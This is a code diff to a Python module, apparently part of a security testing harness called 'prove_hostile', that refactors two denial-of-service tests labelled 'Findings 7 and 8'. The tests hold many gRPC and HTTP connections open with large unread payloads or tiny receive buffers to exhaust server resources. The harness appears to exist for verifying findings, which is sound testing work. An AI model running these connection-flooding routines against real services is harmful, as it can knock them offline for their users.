@@ -1,13 +1,12 @@
 """Findings 7 and 8: answers that nobody takes."""
 
 import select
-import socket
 import time
 
 from wan.v1 import video_generation_pb2
 
 from prove_hostile import http2
-from prove_hostile.crowds import UNREAD, keep_open
+from prove_hostile.crowds import UNREAD, attack_connection, attack_socket, keep_open
 from prove_hostile.reflection import CONVERSATION, symbol
 from prove_hostile.registry import attack
 from prove_hostile.siege import run_siege
@@ -43,7 +42,7 @@ def unread_conversation(place):
     opened = []
     try:
         while len(opened) < 12:
-            opened.append(http2.Connection(place.grpc, UNREAD, timeout=30))
+            opened.append(attack_connection(place, UNREAD, timeout=30))
             opened[-1].call(block, symbol("a" * (60 << 20)), end=False)
         time.sleep(60)
     finally:
@@ -53,20 +52,15 @@ def unread_conversation(place):
 
 def unread_videos(place):
     """60 connections that ask for a list and read nothing; those that the server closes are made again."""
-    host, port = place.http.rsplit(":", 1)
     header = place.header("GET", "/v1/videos?limit=100", "eve")
     opened = []
     poll = select.poll()
     try:
         while True:
             while len(opened) < 60:
-                connection = socket.socket()
-                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-                connection.settimeout(10)
-                connection.connect((host, int(port)))
-                connection.sendall(header)
-                opened.append(connection)
-                poll.register(connection, select.POLLHUP | select.POLLERR)
+                opened.append(attack_socket(place.http, receive_buffer=4096))
+                opened[-1].sendall(header)
+                poll.register(opened[-1], select.POLLHUP | select.POLLERR)
             for descriptor, _ in poll.poll(200):
                 poll.unregister(descriptor)
                 closed = next(connection for connection in opened if connection.fileno() == descriptor)
